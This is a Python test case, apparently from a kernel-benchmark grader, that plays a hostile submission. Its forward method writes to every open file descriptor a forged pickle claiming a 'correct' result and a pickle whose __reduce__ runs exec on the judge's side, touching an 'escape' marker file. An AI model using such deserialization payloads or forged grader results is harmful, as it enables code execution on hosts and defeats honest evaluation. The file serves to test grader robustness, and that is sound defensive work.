"""Writes pickles to every open file descriptor: one of a forged answer, one that runs code when it is read.

Tries: to be read instead of the real answer, and to run on the judge's side.
Might work: ``multiprocessing`` reads pickles from its pipes.

problem: relu
expect: mismatch|rejected|crashed|runtime_failed|timed_out
"""

import os
import pathlib
import pickle
import struct
import tempfile

import torch
from torch import nn

ESCAPE = pathlib.Path(tempfile.gettempdir()) / "kernelwright-escape-pickle"


class Payload:
    def __reduce__(self):
        return (exec, (f"import pathlib; pathlib.Path({str(ESCAPE)!r}).touch()",))


class ModelNew(nn.Module):
    def forward(self, x):
        texts = [pickle.dumps({"status": "correct", "outputs": [b""]}), pickle.dumps(Payload())]
        for fd in range(256):
            for text in texts:
                try:
                    os.set_blocking(fd, False)
                    os.write(fd, struct.pack("!i", len(text)) + text)
                except OSError:
                    break
        return torch.zeros_like(x)
